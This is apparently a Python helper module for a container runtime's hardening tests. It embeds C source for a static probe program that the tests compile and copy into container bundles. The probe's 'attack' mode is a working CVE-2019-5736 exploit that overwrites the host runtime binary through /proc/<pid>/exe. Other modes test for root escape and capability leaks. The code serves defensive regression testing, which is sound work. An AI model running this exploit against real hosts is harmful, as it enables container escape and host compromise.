"""Helpers for test_hardening.py: a static "malicious container" program, runtime copies.

`probe` is a small static C program compiled once per run (gcc -static) and copied into the
rootfs of the bundles that need it. Its modes:

  probe attack CTL        CVE-2019-5736 attacker: busy-loops over /proc, opens /proc/<pid>/exe of
                          every process whose exe is not a file of the container (O_PATH), tries
                          the direct O_WRONLY|O_TRUNC open (retrying on ETXTBSY) and keeps
                          reopening each held handle O_WRONLY through /proc/self/fd/N to write to
                          it. Stops when CTL/stop exists; logs to CTL/log, summary in CTL/report.
  probe scan              one line per process visible in /proc: pid, comm, start time, the
                          result of opening its exe (dev:ino or an errno).
  probe fds               one line per open fd (except the directory being listed): "N target".
  probe where MARKER      is the cwd outside the root? (raw getcwd, and MARKER, an absolute host
                          path, looked up through ../ chains from the cwd). Prints INSIDE/ESCAPED.
  probe statfs PATH...    f_type of each path in hex, or the errno.
  probe ids               real/effective/saved uid and gid, then the Cap* lines of
                          /proc/self/status. Made setuid-root by tests.
"""
import fcntl
import hashlib
import os
import shutil
import subprocess

from .util import Skip

PROBE_C = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 512
#define MAX_PID (1 << 22)

static FILE *logf;
static const char MARK[] = "#!/bin/sh\necho PWNED-BY-CONTAINER\nexit 99\n";

static void logline(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void logline(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    vfprintf(logf, fmt, ap);
    va_end(ap);
    fputc('\n', logf);
    fflush(logf);
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

struct held { int fd, pid, done, last_errno; dev_t dev; ino_t ino; };

static int attack(const char *ctl) {
    char path[4096], stopf[4096], link[4096];
    snprintf(path, sizeof path, "%s/log", ctl);
    logf = fopen(path, "w");
    if (!logf) { perror("log"); return 2; }
    snprintf(stopf, sizeof stopf, "%s/stop", ctl);
    struct stat self, bb;
    if (stat("/proc/self/exe", &self) < 0 || stat("/bin/busybox", &bb) < 0) {
        logline("ERROR stat self/busybox: %s", strerror(errno));
        return 2;
    }
    unsigned char *seen = calloc(MAX_PID, 1);
    static struct held held[MAX_HELD];
    int nheld = 0, wrote = 0, eacces = 0, scans = 0;
    pid_t me = getpid();
    logline("START pid=%d", me);
    int stopping = 0;
    double stop_at = 0;
    for (;;) {
        if (!stopping && access(stopf, F_OK) == 0) {
            stopping = 1;
            stop_at = now() + 2.0;  /* keep trying the held handles a little longer */
        }
        if (stopping && now() > stop_at) break;
        scans++;
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            char *end;
            long pid = strtol(e->d_name, &end, 10);
            /* seen: 1 = done with this pid, 2 = refused so far (retried every scan: a
               process may become dumpable later while still running the runtime binary) */
            if (*end || pid <= 0 || pid >= MAX_PID || pid == me || seen[pid] == 1) continue;
            snprintf(path, sizeof path, "/proc/%ld/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) {
                if (errno == EACCES || errno == EPERM) {
                    /* a process we may not look at (non-dumpable): logged once per pid */
                    if (seen[pid] == 0) {
                        eacces++;
                        logline("DENIED pid=%ld errno=%d", pid, errno);
                    }
                    seen[pid] = 2;
                } else if (errno == ENOENT) {
                    seen[pid] = 1;  /* exited, a zombie, or a kernel thread */
                }
                continue;
            }
            struct stat st;
            if (fstat(fd, &st) < 0) { close(fd); continue; }
            if ((st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
                (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)) {
                seen[pid] = 1;  /* one of the container's own programs */
                close(fd);
                continue;
            }
            seen[pid] = 1;
            ssize_t n = readlink(path, link, sizeof link - 1);
            link[n > 0 ? n : 0] = 0;
            logline("HANDLE pid=%ld dev=%lu ino=%lu link=%s", pid, (unsigned long)st.st_dev,
                    (unsigned long)st.st_ino, link);
            /* the direct way: open the exe for writing, retrying while it is busy */
            int direct_errno = 0;
            for (int i = 0; i < 2000; i++) {
                int w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
                if (w >= 0) {
                    ssize_t r = write(w, MARK, sizeof MARK - 1);
                    logline("WROTE direct pid=%ld n=%zd", pid, r);
                    if (r > 0) wrote++;
                    close(w);
                    direct_errno = 0;
                    break;
                }
                direct_errno = errno;
                if (errno != ETXTBSY) break;
            }
            if (direct_errno) logline("DIRECT-FAILED pid=%ld errno=%d", pid, direct_errno);
            if (nheld < MAX_HELD) {
                held[nheld].fd = fd; held[nheld].pid = pid; held[nheld].done = 0;
                held[nheld].dev = st.st_dev; held[nheld].ino = st.st_ino;
                held[nheld].last_errno = 0;
                nheld++;
            } else {
                close(fd);
            }
        }
        if (d) closedir(d);
        /* the O_PATH way: once the runtime is gone the file is no longer busy */
        for (int i = 0; i < nheld; i++) {
            if (held[i].done) continue;
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w < 0) { held[i].last_errno = errno; continue; }
            ssize_t r = pwrite(w, MARK, sizeof MARK - 1, 0);
            int werr = errno;
            close(w);
            held[i].done = 1;
            if (r > 0) {
                wrote++;
                logline("WROTE reopen pid=%d n=%zd", held[i].pid, r);
            } else {
                logline("WRITE-FAILED reopen pid=%d errno=%d", held[i].pid, werr);
            }
        }
    }
    for (int i = 0; i < nheld; i++)
        if (!held[i].done)
            logline("HELD-NOT-WRITABLE pid=%d last_errno=%d", held[i].pid, held[i].last_errno);
    char rep[4096], tmp[4096];
    snprintf(rep, sizeof rep, "%s/report", ctl);
    snprintf(tmp, sizeof tmp, "%s/report.tmp", ctl);
    FILE *f = fopen(tmp, "w");
    if (!f) return 2;
    fprintf(f, "scans=%d handles=%d denied=%d wrote=%d\n", scans, nheld, eacces, wrote);
    fclose(f);
    rename(tmp, rep);
    return 0;
}

static int scan(void) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    char path[512], buf[4096];
    while (d && (e = readdir(d))) {
        char *end;
        long pid = strtol(e->d_name, &end, 10);
        if (*end || pid <= 0) continue;
        snprintf(path, sizeof path, "/proc/%ld/stat", pid);
        int sfd = open(path, O_RDONLY);
        if (sfd < 0) continue;
        ssize_t n = read(sfd, buf, sizeof buf - 1);
        close(sfd);
        if (n <= 0) continue;
        buf[n] = 0;
        char *lp = strchr(buf, '('), *rp = strrchr(buf, ')');
        if (!lp || !rp) continue;
        *rp = 0;
        const char *comm = lp + 1;
        /* field 22 (starttime): count fields after ") " which starts at field 3 */
        char *p = rp + 2;
        unsigned long long start = 0;
        for (int field = 3; p && *p; field++) {
            if (field == 22) { start = strtoull(p, NULL, 10); break; }
            p = strchr(p, ' ');
            if (p) p++;
        }
        snprintf(path, sizeof path, "/proc/%ld/exe", pid);
        int fd = open(path, O_PATH | O_CLOEXEC);
        struct stat st;
        if (fd >= 0 && fstat(fd, &st) == 0)
            printf("%ld %s %llu %lu:%lu\n", pid, comm, start, (unsigned long)st.st_dev,
                   (unsigned long)st.st_ino);
        else
            printf("%ld %s %llu E%d\n", pid, comm, start, errno);
        if (fd >= 0) close(fd);
    }
    return 0;
}

static int fds(void) {
    DIR *d = opendir("/proc/self/fd");
    if (!d) { perror("opendir"); return 2; }
    int own = dirfd(d);
    struct dirent *e;
    char path[512], link[4096];
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        int fd = atoi(e->d_name);
        if (fd == own) continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, link, sizeof link - 1);
        link[n > 0 ? n : 0] = 0;
        printf("%d %s\n", fd, link);
    }
    closedir(d);
    return 0;
}

static int where(const char *marker) {
    char buf[4096];
    long r = syscall(SYS_getcwd, buf, sizeof buf);
    int escaped = 0;
    if (r < 0) {
        printf("getcwd-errno=%d\n", errno);
    } else {
        printf("cwd=%s\n", buf);
        if (strncmp(buf, "(unreachable)", 13) == 0) escaped = 1;
    }
    const char *rel = marker;
    while (*rel == '/') rel++;
    for (int depth = 0; depth <= 16; depth++) {
        char p[8192] = "";
        for (int i = 0; i < depth; i++) strcat(p, "../");
        strcat(p, rel);
        int fd = open(p, O_RDONLY);
        if (fd >= 0) {
            char c[64] = "";
            ssize_t n = read(fd, c, sizeof c - 1);
            c[n > 0 ? n : 0] = 0;
            close(fd);
            printf("marker-reached depth=%d content=%s\n", depth, c);
            escaped = 1;
            break;
        }
    }
    printf("%s\n", escaped ? "ESCAPED" : "INSIDE");
    return 0;
}

static int do_statfs(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        struct statfs s;
        if (statfs(argv[i], &s) == 0)
            printf("%s %lx\n", argv[i], (unsigned long)s.f_type);
        else
            printf("%s E%d\n", argv[i], errno);
    }
    return 0;
}

static int ids(void) {
    uid_t r, e, s;
    gid_t rg, eg, sg;
    getresuid(&r, &e, &s);
    getresgid(&rg, &eg, &sg);
    printf("uid=%u,%u,%u gid=%u,%u,%u\n", r, e, s, rg, eg, sg);
    FILE *f = fopen("/proc/self/status", "r");
    char line[512];
    while (f && fgets(line, sizeof line, f))
        if (strncmp(line, "Cap", 3) == 0 || strncmp(line, "NoNewPrivs", 10) == 0)
            fputs(line, stdout);
    if (f) fclose(f);
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 3 && !strcmp(argv[1], "attack")) return attack(argv[2]);
    if (argc >= 2 && !strcmp(argv[1], "scan")) return scan();
    if (argc >= 2 && !strcmp(argv[1], "fds")) return fds();
    if (argc >= 3 && !strcmp(argv[1], "where")) return where(argv[2]);
    if (argc >= 2 && !strcmp(argv[1], "statfs")) return do_statfs(argc - 2, argv + 2);
    if (argc >= 2 && !strcmp(argv[1], "ids")) return ids();
    fprintf(stderr, "usage: probe attack CTL | scan | fds | where MARKER | statfs P... | ids\n");
    return 2;
}
"""


def probe_binary(t):
    """Path of the compiled probe, built once per run (concurrent tests share one build)."""
    out = os.path.join(t.run["tmp"], "hardening-probe")
    if os.path.exists(out):
        return out
    cc = shutil.which("gcc") or shutil.which("cc")
    if not cc:
        raise Skip("no C compiler to build the static probe program")
    lockf = open(out + ".lock", "w")
    try:
        fcntl.flock(lockf, fcntl.LOCK_EX)
        if os.path.exists(out):
            return out
        src = out + ".c"
        with open(src, "w") as f:
            f.write(PROBE_C)
        tmp = out + ".tmp"
        r = subprocess.run([cc, "-static", "-O2", "-o", tmp, src], capture_output=True, text=True)
        if r.returncode != 0:
            raise Skip(f"cannot build the static probe ({cc} -static): {r.stderr.strip()[-300:]}")
        os.rename(tmp, out)
        return out
    finally:
        lockf.close()


def install_probe(t, bundle, rel="probe", mode=0o755, owner=(0, 0)):
    """Copy (never hard-link: tests chmod it) the probe into the bundle's rootfs."""
    dst = bundle.file(rel)
    os.makedirs(os.path.dirname(dst), exist_ok=True)
    if os.path.lexists(dst):
        os.unlink(dst)
    shutil.copyfile(probe_binary(t), dst)
    os.chown(dst, *owner)
    os.chmod(dst, mode)  # after chown, which would clear setuid
    return "/" + rel.lstrip("/")


def sha256(path):
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def runtime_copy(t, subdir="rtcopy"):
    """Copy the runtime under test into the test's tmp dir (same file name, so that a runc copy
    still counts as runc). Returns the copy's path."""
    src = os.path.realpath(t.runtime_path)
    d = t.path(subdir)
    os.makedirs(d, exist_ok=True)
    dst = os.path.join(d, os.path.basename(src))
    shutil.copy2(src, dst)
    os.chmod(dst, 0o755)
    return dst
